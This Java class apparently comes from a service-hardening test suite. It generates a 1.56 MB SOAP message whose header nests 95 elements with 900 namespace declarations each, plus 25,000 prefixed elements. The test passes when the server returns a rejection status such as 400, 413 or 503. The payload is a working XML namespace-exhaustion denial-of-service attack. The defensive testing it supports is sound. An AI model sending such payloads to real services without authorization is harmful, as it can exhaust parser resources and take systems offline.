package org.openmds.attacks.catalog;

import java.io.IOException;
import java.util.Set;

import org.openmds.attacks.attack.Attack;
import org.openmds.attacks.attack.AttackMessages;
import org.openmds.attacks.attack.Attacker;

/** Headers whose nested elements declare 85,500 namespaces. */
final class HeaderNamespaces implements Attack {

    private static final int DEPTH = 95;
    private static final int DECLARATIONS = 900;
    private static final int ELEMENTS = 25_000;

    private final OnceMade request = new OnceMade(HeaderNamespaces::message);

    @Override
    public String name() {
        return "header-namespaces";
    }

    @Override
    public String sends() {
        return "1.56 MB of SOAP header: 95 nested elements with 900 declarations each, then elements with a prefix";
    }

    @Override
    public Set<Integer> permitted() {
        return Set.of(400, 401, 403, 413, 429, 500, 503);
    }

    @Override
    public void prepare() {
        byte[] _ = request.get();
    }

    @Override
    public void attempt(Attacker attacker) throws IOException {
        attacker.exchange(request.get());
    }

    private static byte[] message() {
        StringBuilder header = new StringBuilder();
        for (int level = 0; level < DEPTH; level++) {
            header.append("<a:h");
            for (int i = 0; i < DECLARATIONS; i++) {
                header.append(" xmlns:").append(i == 0 ? "a" : "n" + i).append("='u'");
            }
            header.append('>');
        }
        header.append("<a:b/>".repeat(ELEMENTS)).append("</a:h>".repeat(DEPTH));
        return AttackMessages.request(AttackMessages.INDEX,
                AttackMessages.envelope(header.toString(), AttackMessages.query("1")));
    }
}
